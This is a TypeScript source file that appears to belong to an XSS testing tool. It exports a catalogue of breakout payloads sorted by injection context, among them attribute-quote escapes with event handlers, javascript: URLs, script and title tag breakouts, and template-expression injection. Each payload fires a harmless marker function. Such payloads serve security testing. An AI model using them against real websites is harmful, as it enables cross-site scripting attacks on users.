import type { Written } from "./trick.ts";

/** Texts that end what they are put into: an attribute, a string of a script, an element. */
export const breakoutTricks = {
	attribute: {
		"a quote and an element": '"><img src=x onerror=sprung({id})>',
		"a quote and a script": '"><script>sprung({id})</script>',
		"a quote and a handler": '" onmouseover="sprung({id})',
		"a quote and the focus": '" tabindex=0 autofocus onfocus="sprung({id})',
		"a quote and a handler with a slash": '"/onmouseover="sprung({id})',
	},
	"attribute-single": {
		"an apostrophe and a handler": "' onmouseover='sprung({id})",
		"an apostrophe and an element": "'><svg/onload=sprung({id})>",
	},
	"attribute-bare": {
		"a space and a handler": "x onmouseover=sprung({id})",
		"a backtick and a handler": "` onmouseover=sprung({id}) `",
	},
	"attribute-style": { "a background behind a colour": "red;background:url(/sprung/{id})" },
	address: {
		"the address of a script": "javascript:sprung({id})",
		"the address of a script, in mixed case": "JaVaScRiPt:sprung({id})",
		"the address of a script, with tabs and lines": "\tjava\n\tscript:sprung({id})",
		"the address of a script, with a remark": "javascript:/*--></title></style></script>*/sprung({id})",
	},
	string: {
		"a quote and a call": '";sprung({id})//',
		"a quote and a call in between": '"-sprung({id})-"',
		"the end of the script": "</script><script>sprung({id})</script>",
	},
	"string-escaped": { "a backslash and a quote": '\\";sprung({id})//' },
	"string-template": { "a value in a template": "\u0024{sprung({id})}" },
	remark: {
		"a separator of lines": "\u2028sprung({id})//",
		"a separator of paragraphs": "\u2029sprung({id})//",
		"a line": "x\nsprung({id})//",
	},
	title: { "the end of the title": "</title><script>sprung({id})</script>" },
	textarea: { "the end of the text field": "</textarea><script>sprung({id})</script>" },
	style: { "the end of the style": "</style><script>sprung({id})</script>" },
	comment: { "the end of the comment": "--><script>sprung({id})</script>" },
	template: {
		"an expression of a template": "{{sprung({id})}}",
		"a constructor in a template": "{{constructor.constructor('sprung({id})')()}}",
		"an expression in percent signs": "<%= sprung({id}) %>",
	},
	asleep: {
		"the prototype of every object": { text: "__proto__", why: "a name, which runs nothing by itself" },
		"the constructor of every object": { text: "constructor", why: "a name, which runs nothing by itself" },
		"a letter that nobody sees": { text: "java\u200bscript:sprung({id})", why: "no browser reads it as a scheme" },
		"text that runs backwards": {
			text: "\u202e)'x'(trela:tpircsavaj\u202c",
			why: "it deceives who reads it, and runs nothing",
		},
	},
} satisfies Record<string, Written>;
